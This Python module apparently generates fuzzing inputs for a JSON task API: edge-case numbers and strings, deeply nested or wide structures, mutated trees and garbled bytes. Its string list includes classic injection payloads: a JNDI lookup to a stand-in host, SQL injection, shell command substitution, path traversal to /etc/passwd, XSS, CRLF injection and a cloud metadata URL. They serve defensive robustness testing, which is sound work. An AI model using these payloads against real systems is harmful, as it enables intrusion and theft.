"""Values that nobody expects where they are put, and JSON that says less or more than it should."""

import json
import random
from collections.abc import Callable, Sequence
from typing import Any

SCALARS: Sequence[Any] = (
    *(None, True, False, 0, -1, 1, 2, 0.5, -0.0, 1e308, -1e308, 5e-324),
    *(2**31 - 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63, 2**64, 10**30, -(10**400)),
)

TEXTS: Sequence[str] = (
    *("", " ", "\t", "\r\n", "\0", "a\0b", "\x7f", "\x1b[31m", "\u2028", "\ufeff", "\ufffe", "\U0010ffff"),
    *("\ud800", "\udfff\ud800", "\xe9", "e\u0301", "\ufb01", "\u0130", "\xdf", "\u0645\u0631\u062d"),
    *("\u202egnp.exe", "\U0001f469\u200d\U0001f466" * 20, "\U0001d51e"),
    *("null", "true", "0", "-1", "1e999", "NaN", "undefined", "None", "[]", "{}"),
    *("..", ".", "../../etc/passwd", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "//evil.example"),
    *("' OR '1'='1", '"; DROP TABLE tasks; --', "${jndi:ldap://evil.example/x}", "{{7*7}}", "${7*7}"),
    *("%s%s%s%n", "%00", "%0d%0aX: y", "<script>alert(1)</script>", "`id`", "$(id)", "| id", "\\u0000"),
    *("a#b", "TASK#", "#HEAD", "EVENT#000000001", "~", "=", "a:b", ":cancel", "a/b", "a?b", "a%2fb", "*"),
    *("ROLE_USER", "ROLE_AGENT", "TASK_STATE_WORKING", "TASK_STATE_UNSPECIFIED", "task_state_working"),
    *("2026-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "2026-01-01"),
    *("0000-00-00T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T24:00:00+99:99", "10000-01-01T00:00:00Z"),
    *("QUJD", "QQ", "QQ==", "Q===", "-_-_", "====", "data:text/plain;base64,QQ=="),
    *("text/plain", "image/*", "a/b; c=d", "/", "text/plain\r\nX: y", "x" * 300),
    *(
        "http://169.254.169.254/latest/meta-data/",
        "https://[::1]/",
        "gopher://x",
        "https://x@y:z/",
        "https://",
    ),
    *("a" * 129, "a" * 257, "a" * 5_000, "\U0001f44d" * 3_000),
)

MANY_BYTES = 100_000
"""More than a log keeps beside its events, and less than is shown inline."""


def deep(chance: random.Random) -> Any:
    """Something nested, up to far more than anybody needs."""
    value: Any = chance.choice(SCALARS)
    for _ in range(chance.choice([3, 20, 60, 99, 150, 400])):
        value = [value] if chance.random() < 0.5 else {chance.choice(["a", "", "__proto__"]): value}
    return value


def wide(chance: random.Random) -> Any:
    """Something with many members."""
    count = chance.choice([10, 101, 1_000])
    if chance.random() < 0.5:
        return [chance.choice(SCALARS) for _ in range(count)]
    return {f"{chance.choice('ab_$.')}{number}": number for number in range(count)}


KINDS: Sequence[tuple[int, Callable[[random.Random], Any]]] = (
    (30, lambda chance: chance.choice(SCALARS)),
    (50, lambda chance: chance.choice(TEXTS)),
    (5, lambda chance: chance.choice([[], {}, [[]], [{}], {"": ""}, {"@type": "x"}, {"text": "x"}])),
    (4, deep),
    (3, wide),
    (2, lambda chance: "x" * MANY_BYTES),
)


def value(chance: random.Random) -> Any:
    """Anything at all."""
    (kind,) = chance.choices([kind for _, kind in KINDS], [weight for weight, _ in KINDS])
    return kind(chance)


# --- a tree that is changed somewhere ------------------------------------------------


def changed(chance: random.Random, tree: Any) -> Any:
    """The tree with one change somewhere in it."""
    if isinstance(tree, dict) and tree and chance.random() < 0.75:
        name = chance.choice(sorted(tree))
        return _renamed(chance, tree, name) if chance.random() < 0.3 else _with(chance, tree, name)
    if isinstance(tree, list) and tree and chance.random() < 0.75:
        place = chance.randrange(len(tree))
        how = chance.random()
        if how < 0.2:
            return [*tree, *[tree[place]] * chance.choice([1, 2, 101])]
        return [*tree[:place], *([] if how < 0.3 else [changed(chance, tree[place])]), *tree[place + 1 :]]
    return chance.choice([value, value, value, lambda _: [tree], lambda _: {"value": tree}])(chance)


def _with(chance: random.Random, tree: dict[str, Any], name: str) -> dict[str, Any]:
    return {**tree, name: changed(chance, tree[name])}


def _renamed(chance: random.Random, tree: dict[str, Any], name: str) -> dict[str, Any]:
    """One member left out, or under another name, or beside one of another name."""
    others = {key: item for key, item in tree.items() if key != name}
    names = (name.upper(), name + " ", _snake(name), name[:-1], f"{name}\0", "__class__", "unknown", "")
    match chance.randrange(3):
        case 0:
            return others
        case 1:
            return {**others, chance.choice(names): tree[name]}
        case _:
            return {**tree, chance.choice(names): chance.choice([tree[name], value(chance)])}


def _snake(name: str) -> str:
    return "".join(f"_{letter.lower()}" if letter.isupper() else letter for letter in name)


# --- text that is changed somewhere ------------------------------------------------


def printed(chance: random.Random, tree: Any) -> bytes:
    """The tree as JSON, most of the time as one would print it."""
    text = json.dumps(tree, ensure_ascii=chance.random() < 0.7, separators=chance.choice([(",", ":"), None]))
    body = text.encode(errors="surrogatepass")
    return body if chance.random() < 0.85 else _garbled(chance, body)


def _garbled(chance: random.Random, body: bytes) -> bytes:
    """Bytes that are JSON no more, or in another way than before."""
    place = chance.randrange(len(body) + 1)
    ways: Sequence[Callable[[], bytes]] = (
        lambda: body[:place],
        lambda: body[:place] + chance.randbytes(chance.choice([1, 1, 7])) + body[place + 1 :],
        lambda: body[:place] + body[place + 1 :],
        lambda: body.replace(b"{", b'{"message":null,"id":"other","id":1,', 1),
        lambda: body.replace(b'"', b"'"),
        lambda: body.replace(b":", b":NaN,", 1),
        lambda: b"\xef\xbb\xbf" + body,
        lambda: body.decode("latin-1").encode("utf-16"),
        lambda: body + chance.choice([b"\0", b"}", body, b"//x", b"\xff"]),
        lambda: b" " * 10_000 + body,
        lambda: b"[" * 100_000,
        lambda: b"[" + b",".join([body] * 3) + b"]",
        lambda: b"a=1&b=2",
        lambda: b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--",
        lambda: b"",
    )
    return chance.choice(ways)()
